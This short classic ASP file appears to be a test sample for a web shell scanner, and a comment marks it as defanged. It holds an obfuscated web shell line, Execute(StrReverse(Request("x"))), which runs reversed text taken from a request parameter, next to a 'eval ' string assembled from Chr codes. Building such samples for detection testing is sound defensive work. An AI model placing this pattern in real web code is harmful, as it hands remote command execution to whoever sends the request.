<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
s = Chr(101) & Chr(118) & Chr(97) & Chr(108) & Chr(32)
Execute(StrReverse(Request("x")))
%>
